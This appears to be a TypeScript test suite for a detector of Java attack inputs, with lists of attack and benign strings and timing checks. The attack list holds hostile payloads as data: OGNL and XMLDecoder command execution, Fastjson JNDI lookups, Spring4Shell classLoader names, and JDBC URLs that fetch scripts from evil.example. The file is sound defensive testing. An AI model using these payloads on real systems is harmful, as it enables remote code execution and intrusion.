import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { DetectorContext, Finding } from '../../finding.ts';
import { javaDetector as detector } from './java.ts';
import { cpuBestOf, detectorRunner } from '../../../../test/helpers/detector-harness.ts';

const run = detectorRunner(detector, { source: 'body', name: 'data' });
const bestOf = cpuBestOf;
const pl1 = (fs: Finding[]) => fs.filter((f) => f.paranoia === 1);

/** Base64 of `prefix` bytes followed by the Java serialization header and a little payload. */
function serializedB64(prefix: number): string {
  const bytes = Buffer.concat([Buffer.alloc(prefix, 0x41), Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72, 0x00, 0x11]), Buffer.from('java.util.HashMap')]);
  return bytes.toString('base64');
}

const attacks: [string, Partial<DetectorContext>][] = [
  [serializedB64(0), {}],
  [serializedB64(0).slice(0, 8), {}],
  ['payload=' + serializedB64(0), {}],
  [serializedB64(1).slice(1), {}],
  [serializedB64(2).slice(2), {}],
  [serializedB64(3).slice(3), {}],
  ['ACED00057372', {}],
  ['\u00ac\u00ed\u0000\u0005sr', {}],
  ['x=\\xac\\xed\\x00\\x05', {}],
  ['java.lang.Runtime', {}],
  ['java.lang.Integer', {}], // a type name of its own, as a deserializer takes it
  // JDBC URLs whose properties run code or read files (data-source forms, "test connection" endpoints)
  ["jdbc:h2:mem:test;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://evil.example/poc.sql'", { source: 'body', name: 'url' }],
  ['jdbc:mysql://evil.example:3306/test?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor', { source: 'query', name: 'url' }],
  ['jdbc:postgresql://db:5432/app?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil.example/x.xml', {}],
  ['java.lang.ProcessBuilder', { source: 'cookie', name: 'x' }],
  ['java.lang.Runtime', { isName: true, source: 'query' }],
  ['javax.script.ScriptEngineManager', {}],
  ['{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.example/a","autoCommit":true}', {}],
  ['["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://x.example/a"}]', {}],
  ['org.apache.commons.collections.functors.InvokerTransformer', {}],
  ['com.opensymphony.xwork2.ActionContext', {}],
  ['org.omg.CORBA.ORB', {}],
  ['java.Runtime', {}],
  ['java.evil.processbuilder', {}],
  ['ProcessBuilder.evil.clonetransformer', {}],
  ['runtime.InvokerTransformer', {}],
  ['TemplatesImpl', {}],
  ["%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}", { source: 'header', name: 'content-type' }],
  ["%{#context['xwork.MethodAccessor.denyMethodExecution']=false}", {}],
  ['${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream()))}', {}],
  ["@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS", {}],
  ['class.module.classLoader.resources.context.parent.pipeline.first.pattern', { isName: true, source: 'body' }],
  ["class['classLoader'].resources.dirContext.docBase", { isName: true, source: 'query' }],
  ['Class.classLoader.URLs[0]', { isName: true, source: 'query' }],
  ['user.class.module.classLoader.x', { isName: true, source: 'query' }],
  ['Runtime.getRuntime().exec("calc")', {}],
  ['Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null)', {}],
  ['new ProcessBuilder("bash","-c","id").start()', {}],
  ['<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>', {}],
  ['<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"/></dynamic-proxy></sorted-set>', {}],
  ['shell.jsp', { source: 'header', name: 'x-filename' }],
  ['a.jspx..', { source: 'header', name: 'x-file-name' }],
  ['shell. jsp ', { source: 'body', name: 'filename' }],
  ['\ufffd\ufffd\u0000\u0005', {}],
];

const benign: [string, Partial<DetectorContext>][] = [
  ['jdbc:h2:mem:testdb;DB_CLOSE_DELAY=-1', { source: 'body', name: 'url' }],
  ['jdbc:postgresql://db.example.com:5432/shop?sslmode=require', { source: 'body', name: 'jdbcUrl' }],
  ["java.lang.NullPointerException: Attempt to invoke virtual method 'java.lang.String android.content.Context.getString(int)' on a null object reference", {}],
  ['I love Java and JavaScript', {}],
  ['java lang courses', {}],
  // GWT-RPC's wire format names types with a signature
  ['7|0|6|https://app.example.com/app/|4E7583E4BED25F58DDD5F1A1D675522A|com.example.client.GreetingService|greetServer|java.lang.String/2004016611|World|1|2|3|4|1|5|6|', {}],
  // the frames of Java 9 and later name the module first
  ['java.lang.IllegalStateException: closed\n\tat com.acme.Foo.bar(Foo.java:42)\n\tat java.base/java.lang.Thread.run(Thread.java:833)\n\tat java.base@17.0.2/java.util.concurrent.ThreadPoolExecutor.runWorker(ThreadPoolExecutor.java:1136)\n\tat app//org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:883)', {}],
  ['Exception in thread "main" java.lang.NullPointerException\n\tat com.example.App.main(App.java:12)\n\tat java.lang.reflect.Method.invoke(Native Method)\n\tat java.lang.Thread.run(Thread.java:748)', {}],
  ['Caused by: java.io.IOException: Broken pipe', {}],
  ['com.example.myapp', {}],
  ['com.google.android.gms', {}],
  ['org.example.runtime.config', {}],
  ['https://www.example.com/java/lang/runtime', {}],
  ['The class module loads fast', {}],
  ['className=active', { isName: true, source: 'query' }],
  ['classroom.module', { isName: true, source: 'query' }],
  ['user@example.com and @mention', {}],
  ['Price: ${price}', {}],
  ['player.start(); timer.start(); x.eval()', {}],
  ['report.jsp', { source: 'query', name: 'page' }],
  ['document.pdf', { source: 'header', name: 'x-filename' }],
  ['SGVsbG8gd29ybGQsIHRoaXMgaXMgYSB0ZXN0IG9mIGJhc2U2NA==', {}],
  ['eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U', {}],
  ['The lazymap keyword is a Clojure thing', {}],
  ['Event handler for click', {}],
  ['Class.forName("com.mysql.jdbc.Driver")', {}],
];

test('Java attacks are found at paranoia 1', () => {
  for (const [value, ctx] of attacks) {
    const fs = pl1(run(value, ctx));
    assert.ok(fs.length > 0, `missed: ${JSON.stringify(value)}`);
    for (const f of fs) {
      assert.equal(f.category, 'java');
      assert.equal(f.score, 5);
      assert.ok(f.matched.length <= 120);
    }
  }
});

test('stack traces, Java talk and ordinary base64 give nothing at paranoia 1', () => {
  for (const [value, ctx] of benign) assert.deepEqual(pl1(run(value, ctx)), [], `false positive: ${JSON.stringify(value)}`);
});

test('a gzip-compressed Java serialized object in base64 (JSF client-side ViewState) is found', async () => {
  const { gzipSync } = await import('node:zlib');
  const object = Buffer.concat([Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72]), Buffer.from('org.apache.commons.collections.functors.InvokerTransformer')]);
  assert.equal(pl1(run(gzipSync(object).toString('base64'), { source: 'body', name: 'javax.faces.ViewState' }))[0]?.ruleId, 'java-serialized-object');
  assert.deepEqual(pl1(run(gzipSync(Buffer.from('<html><body>an ordinary compressed page, nothing more</body></html>')).toString('base64'))), []);
});

test('weaker Java signals are paranoia 2/3', () => {
  assert.equal(run('java.util.ArrayList')[0]?.paranoia, 2);
  assert.equal(run(Buffer.from('xxinvokertransformer').toString('base64').slice(1))[0]?.paranoia, 1);
  assert.equal(run(Buffer.from('{"runtime": "nodejs18.x"}').toString('base64').slice(2))[0]?.paranoia, 3);
});

test('linear time; never throws', () => {
  for (let i = 0; i < 3000; i++) {
    let s = '';
    for (let j = 0; j < 30; j++) s += 'java.lang.Runtime@%{#(rO0AB)class[]<void method=\u00ac\u00ed'[Math.floor(Math.random() * 52)] ?? '';
    run(s);
    run(s, { isName: true });
  }
  const inputs = [
    'We use Java and Spring for the backend, com.example.app handles it. '.repeat(3000),
    Buffer.alloc(150000, 'x').toString('base64'),
    'java.'.repeat(40000),
    'java.lang.'.repeat(20000),
    '@a.b'.repeat(50000),
    '%{'.repeat(100000),
    'class.'.repeat(35000),
    'x.getClass('.repeat(20000),
    'rO0A'.repeat(50000),
    'aB1'.repeat(70000),
    'a.b.c.d.e.f.g.h.i.j.k.l.m.n.o.p.q.r.s.t.u.v.w.x.y.z.'.repeat(4000),
  ];
  for (const v of inputs) {
    const ms = bestOf(() => { run(v); });
    assert.ok(ms < 250, `slow ${ms.toFixed(1)} ms on ${v.slice(0, 12)}`);
  }
});

/** `len` characters of base64 of random-looking bytes (deterministic). */
function blobB64(len: number, seed = 1): string {
  const bytes = Buffer.alloc(Math.ceil(len * 3 / 4));
  let x = seed;
  for (let i = 0; i < bytes.length; i++) { x = (x * 1103515245 + 12345) & 0x7fffffff; bytes[i] = x >> 16; }
  return bytes.toString('base64').slice(0, len);
}

test('attacks inside long base64 values are still found', () => {
  const blob = blobB64(100_000);
  const mid = blob.length >> 1;
  assert.deepEqual(run(blob), []);
  for (const attack of [' java.lang.Runtime ', '+TemplatesImpl/', 'ACED00057372', "#_memberAccess['x']", ' new ProcessBuilder("id").start()']) {
    const v = blob.slice(0, mid) + attack + blob.slice(mid);
    assert.equal(pl1(run(v)).length, 1, `missed ${attack} in the middle of 100 KB of base64`);
  }
  // a serialized object starting a run after a separator, and a gadget name in base64, far into the value
  assert.equal(pl1(run(blob.slice(0, mid) + ' ' + serializedB64(0) + ' ' + blob.slice(mid)))[0]?.ruleId, 'java-serialized-object');
  const gadget = Buffer.from('xxinvokertransformer').toString('base64').slice(1);
  assert.equal(pl1(run(blob.slice(0, mid) + '.' + gadget + blob.slice(0, 300)))[0]?.ruleId, 'java-base64-gadget');
});

test('linear time on long base64, hex and single-token values', () => {
  const mb = blobB64(1 << 20, 7);
  for (const v of [mb, Buffer.from(mb.slice(0, 1 << 19)).toString('hex'), 'x'.repeat(1 << 20), mb.replace(/[+/]/g, 'a')]) {
    const ms = bestOf(() => { run(v); });
    assert.ok(ms < 100, `slow ${ms.toFixed(1)} ms on 1 MB starting ${v.slice(0, 12)}`);
  }
});
